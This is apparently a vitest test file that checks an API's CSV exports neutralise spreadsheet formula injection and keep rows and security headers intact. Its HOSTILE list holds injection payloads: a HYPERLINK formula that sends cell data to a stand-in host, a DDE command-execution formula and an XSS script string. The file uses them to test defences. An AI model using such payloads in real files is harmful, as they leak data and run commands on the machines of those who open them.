/**
 * Files in which strangers have written whatever they like: no cell of any file of the API is a formula to a spreadsheet,
 * none leaves its line, and no browser takes a file for a page.
 */
import { beforeAll, expect, test, vi } from 'vitest'
import { eq } from 'drizzle-orm'
import { type Belongings, belongingsOf, clear } from './belongings.ts'
import { operations } from './document.ts'
import { api, type Person, person } from './people.ts'
import { db, empty, settlement } from './support.ts'

vi.setConfig({ testTimeout: 60_000, hookTimeout: 60_000 })

const HOSTILE = [
  '=HYPERLINK("https://evil.example?x="&A1,"receipt")',
  `=cmd|' /C calc'!A0`,
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  ' =1',
  '\t=1',
  '\r\n=1',
  '"=1',
  '"\r\n=1,"',
  '\uff1d1',
  '\ufeff=1',
  "'=1",
  '<script>alert(1)</script>',
  'a,=1',
]
/** What a spreadsheet would compute. */
const FORMULA = /^[\s\u200b\ufeff"]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/

const files = operations.filter(({ path }) => path.endsWith('.csv'))
let alice: Person
let hers: Belongings
const env = { UPSTREAM_SECRET: 'upstream-secret-of-the-tests-0123456789' }

beforeAll(async () => {
  vi.spyOn(console, 'error').mockImplementation(() => {})
  await clear()
  await empty()
  await settlement.say({})
  alice = await person()
  hers = await belongingsOf(alice, 'live')
  const body = { name: HOSTILE[0], scopes: ['audit:read'] }
  expect((await api('POST', '/api-keys', { as: alice, body, env })).status).toBe(201)
  return () => vi.restoreAllMocks()
})

/** Every column of text that somebody outside writes, or an upstream, or a formula of a card. */
async function poison(text: string): Promise<void> {
  const { tables: t, orm } = db
  const rule = { v: 1, kind: 'flat', amount: '1', [text]: text }
  await orm.update(t.microPayment).set({ requestId: text, reservationId: text, debit: text, credit: text })
  await orm.update(t.movement).set({ debit: text, credit: text })
  await orm.update(t.oracleValue).set({ raw: text, value: text, source: text, messageId: text, error: text })
  await orm.update(t.rateCard).set({ rule: rule as never })
  await orm
    .update(t.sentinelDecision)
    .set({ rule: text, country: text, routeId: text, detail: { hits: [text] } as never })
  await orm.update(t.audit).set({ action: text, subject: text, actor: text, detail: { [text]: text } })
}

/** As a reader of RFC 4180 sees it: every line has the cells of the header. */
function cellsOf(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    row.push(quoted === undefined ? (plain ?? '') : quoted.replaceAll('""', '"'))
    if (end === ',') continue
    rows.push(row)
    row = []
  }
  return rows
}

function pathOf(path: string): string {
  if (/rate-cards|prices/.test(path)) return `${path}?route=${hers.route}`
  return path.includes('oracle') ? `${path}?oracle=${hers.oracle}` : path
}

test.each(files.map(({ id, path }) => [id, path] as const))('%s', async (_, path) => {
  for (const text of HOSTILE) {
    await poison(text)
    const { status, headers, text: file } = await api('GET', pathOf(path), { as: alice, env })
    expect([text, status, headers.get('content-type')]).toEqual([text, 200, 'text/csv; charset=utf-8; header=present'])
    expect(headers.get('content-disposition')).toMatch(/^attachment; filename="pbstream-[a-z-]+\.csv"$/)
    expect(headers.get('x-content-type-options')).toBe('nosniff')
    const [header, ...rows] = cellsOf(file)
    expect([text, rows.length > 0]).toEqual([text, true])
    for (const row of [header!, ...rows]) {
      expect([text, row.length]).toEqual([text, header!.length])
      expect([text, row.filter((cell) => FORMULA.test(cell))]).toEqual([text, []])
    }
  }
})

test('what is in the rows is in the files', async () => {
  const [text] = HOSTILE
  await poison(text!)
  const { text: file } = await api('GET', '/exports/payments.csv', { as: alice, env })
  expect(cellsOf(file)[1]).toContain(`'${text}`)
  const [row] = await db.orm
    .select()
    .from(db.tables.microPayment)
    .where(eq(db.tables.microPayment.session, hers.session))
  expect(row?.requestId).toBe(text)
})
